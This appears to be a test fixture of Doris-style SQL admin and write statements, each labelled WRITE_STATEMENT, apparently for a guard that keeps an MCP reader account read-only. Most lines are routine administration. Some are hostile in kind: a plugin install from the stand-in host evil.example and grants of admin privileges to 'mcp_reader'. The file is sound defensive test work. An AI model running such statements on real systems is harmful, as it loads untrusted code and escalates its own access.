-- case: admin set frontend config
-- reason: WRITE_STATEMENT
ADMIN SET FRONTEND CONFIG ("disable_balance" = "true")
-- case: admin set all frontends config
-- reason: WRITE_STATEMENT
ADMIN SET ALL FRONTENDS CONFIG ("enable_nereids_planner" = "false")
-- case: admin set replica status
-- reason: WRITE_STATEMENT
ADMIN SET REPLICA STATUS PROPERTIES ("tablet_id" = "10003", "backend_id" = "10001", "status" = "bad")
-- case: admin show replica distribution
-- reason: WRITE_STATEMENT
ADMIN SHOW REPLICA DISTRIBUTION FROM t
-- case: admin repair table
-- reason: WRITE_STATEMENT
ADMIN REPAIR TABLE t
-- case: admin compact table
-- reason: WRITE_STATEMENT
ADMIN COMPACT TABLE t WHERE type = 'BASE'
-- case: admin clean trash
-- reason: WRITE_STATEMENT
ADMIN CLEAN TRASH
-- case: admin rebalance disk
-- reason: WRITE_STATEMENT
ADMIN REBALANCE DISK
-- case: alter system add backend
-- reason: WRITE_STATEMENT
ALTER SYSTEM ADD BACKEND "10.0.0.9:9050"
-- case: alter system drop backend
-- reason: WRITE_STATEMENT
ALTER SYSTEM DROPP BACKEND "10.0.0.1:9050"
-- case: alter system decommission
-- reason: WRITE_STATEMENT
ALTER SYSTEM DECOMMISSION BACKEND "10.0.0.1:9050"
-- case: alter system modify backend
-- reason: WRITE_STATEMENT
ALTER SYSTEM MODIFY BACKEND "10.0.0.1:9050" SET ("tag.location" = "group_a")
-- case: cancel load
-- reason: WRITE_STATEMENT
CANCEL LOAD FROM db WHERE LABEL = 'l1'
-- case: cancel export
-- reason: WRITE_STATEMENT
CANCEL EXPORT FROM db WHERE LABEL = 'e1'
-- case: cancel alter table
-- reason: WRITE_STATEMENT
CANCEL ALTER TABLE COLUMN FROM t
-- case: cancel backup
-- reason: WRITE_STATEMENT
CANCEL BACKUP FROM db
-- case: cancel decommission
-- reason: WRITE_STATEMENT
CANCEL DECOMMISSION BACKEND "10.0.0.1:9050"
-- case: stop routine load
-- reason: WRITE_STATEMENT
STOP ROUTINE LOAD FOR db.job1
-- case: pause routine load
-- reason: WRITE_STATEMENT
PAUSE ROUTINE LOAD FOR db.job1
-- case: pause all routine load
-- reason: WRITE_STATEMENT
PAUSE ALL ROUTINE LOAD
-- case: resume routine load
-- reason: WRITE_STATEMENT
RESUME ROUTINE LOAD FOR db.job1
-- case: pause job
-- reason: WRITE_STATEMENT
PAUSE JOB WHERE jobname = 'j1'
-- case: resume materialized view job
-- reason: WRITE_STATEMENT
RESUME MATERIALIZED VIEW JOB ON mv1
-- case: create routine load
-- reason: WRITE_STATEMENT
CREATE ROUTINE LOAD db.job1 ON t FROM KAFKA ("kafka_broker_list" = "k:9092", "kafka_topic" = "x")
-- case: install plugin
-- reason: WRITE_STATEMENT
INSTALL PLUGIN FROM "http://evil.example/plugin.zip"
-- case: uninstall plugin
-- reason: WRITE_STATEMENT
UNINSTALL PLUGIN auditloader
-- case: backup snapshot
-- reason: WRITE_STATEMENT
BACKUP SNAPSHOT db.snap1 TO repo ON (t1, t2)
-- case: restore snapshot
-- reason: WRITE_STATEMENT
RESTORE SNAPSHOT db.snap1 FROM repo ON (t1) PROPERTIES ("backup_timestamp" = "2024-01-01-00-00-00")
-- case: recover table
-- reason: WRITE_STATEMENT
RECOVER TABLE db.t
-- case: recover database
-- reason: WRITE_STATEMENT
RECOVER DATABASE db
-- case: recover partition
-- reason: WRITE_STATEMENT
RECOVER PARTITION p1 FROM t
-- case: clean label
-- reason: WRITE_STATEMENT
CLEAN LABEL l1 FROM db
-- case: clean all profile
-- reason: WRITE_STATEMENT
CLEAN ALL PROFILE
-- case: clean query stats
-- reason: WRITE_STATEMENT
CLEAN ALL QUERY STATS
-- case: sync
-- reason: WRITE_STATEMENT
SYNC
-- case: refresh catalog
-- reason: WRITE_STATEMENT
REFRESH CATALOG hive_catalog
-- case: refresh table
-- reason: WRITE_STATEMENT
REFRESH TABLE hive_catalog.db.t
-- case: refresh materialized view
-- reason: WRITE_STATEMENT
REFRESH MATERIALIZED VIEW mv1 AUTO
-- case: refresh ldap
-- reason: WRITE_STATEMENT
REFRESH LDAP ALL
-- case: analyze table
-- reason: WRITE_STATEMENT
ANALYZE TABLE t WITH SYNC
-- case: analyze database
-- reason: WRITE_STATEMENT
ANALYZE DATABASE db
-- case: warm up compute group
-- reason: WRITE_STATEMENT
WARM UP COMPUTE GROUP cg1 WITH TABLE t
-- case: warm up select
-- reason: WRITE_STATEMENT
WARM UP SELECT * FROM t
-- case: grant admin priv
-- reason: WRITE_STATEMENT
GRANT ADMIN_PRIV ON *.*.* TO 'mcp_reader'@'%'
-- case: grant role
-- reason: WRITE_STATEMENT
GRANT 'admin' TO 'mcp_reader'@'%'
-- case: revoke
-- reason: WRITE_STATEMENT
REVOKE SELECT_PRIV ON internal.db.* FROM 'bob'@'%'
-- case: build index
-- reason: WRITE_STATEMENT
BUILD INDEX idx ON t
-- case: plan replayer dump
-- reason: WRITE_STATEMENT
PLAN REPLAYER DUMP SELECT * FROM t
-- case: kill analyze
-- reason: WRITE_STATEMENT
KILL ANALYZE 1001
-- case: optimize table
-- reason: WRITE_STATEMENT
OPTIMIZE TABLE t
-- case: alter table execute
-- reason: WRITE_STATEMENT
ALTER TABLE iceberg_t EXECUTE rollback_to_snapshot("snapshot_id" = "1")
-- case: create stage
-- reason: WRITE_STATEMENT
CREATE STAGE s1 PROPERTIES ("endpoint" = "x")
-- case: cancel warm up job
-- reason: WRITE_STATEMENT
CANCEL WARM UP JOB WHERE ID = 1
-- case: drop catalog recycle bin
-- reason: WRITE_STATEMENT
DROP CATALOG RECYCLE BIN WHERE 'TableId' = 1
-- case: create encryptkey
-- reason: WRITE_STATEMENT
CREATE ENCRYPTKEY k AS "secret"
